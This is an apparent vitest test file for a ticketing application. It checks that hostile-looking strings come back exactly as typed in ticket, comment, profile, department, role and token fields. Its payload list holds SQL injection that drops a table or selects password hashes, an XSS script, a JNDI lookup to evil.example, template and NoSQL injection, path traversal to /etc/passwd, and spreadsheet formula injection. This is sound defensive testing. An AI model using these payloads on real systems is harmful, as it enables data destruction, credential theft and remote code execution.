/** Texts that mean something to a database, a page or a program are kept and given back as they were typed. */
import { v7 } from 'uuid'
import { expect, it } from 'vitest'
import { startWorld } from '../harness/world.ts'
import { BOB, hire } from '../accounts/second-step.ts'

const STRINGS = [
  `'; drop table user; --`,
  `%' union select passwordHash from user --`,
  '<script>alert(1)</script>',
  '${jndi:ldap://evil.example/a}',
  '{{7*7}} {"$ne":null} ../../etc/passwd',
  '=cmd|calc!A1',
  '__proto__',
] as const

it.each(STRINGS)('gives %j back as it was typed, in every field of text', async (text) => {
  await using world = await startWorld()
  const desk = await world.desk()
  const bob = await hire(world)
  const ticketId = v7()
  const { tickets, accounts } = bob.api
  await tickets.create.mutate({ ticketId, title: text, description: text, category: text })
  await desk.api.tickets.assign.mutate({ ticketId, agentId: bob.id })
  await tickets.edit.mutate({ ticketId, set: { site: text, custom: { floor: text } } })
  await tickets.comment.mutate({ ticketId, commentId: v7(), body: text })
  await tickets.logWork.mutate({ ticketId, workId: v7(), minutes: 1, note: text })
  await tickets.resolve.mutate({ ticketId, resolution: text })
  expect(await desk.api.tickets.get.query({ ticketId })).toMatchObject({
    title: text,
    description: text,
    category: text,
    site: text,
    custom: { floor: text },
    comments: [{ body: text }],
    work: [{ note: text }],
    resolution: text,
  })

  await accounts.editProfile.mutate({ name: text })
  expect(await accounts.me.query()).toMatchObject({ name: text })
  await desk.api.departments.create.mutate({ name: text })
  expect((await bob.api.departments.list.query()).map(({ name }) => name)).toContain(text)
  const { roles } = desk.api.accounts
  await roles.create.mutate({ name: text, base: 'agent', grants: {} })
  expect(await roles.list.query()).toMatchObject([{ name: text }])
  const { password } = BOB
  await accounts.apiTokens.create.mutate({ name: text, scopes: ['ticket.read'], days: 1, password })
  expect(await accounts.apiTokens.list.query()).toMatchObject([{ name: text }])
})
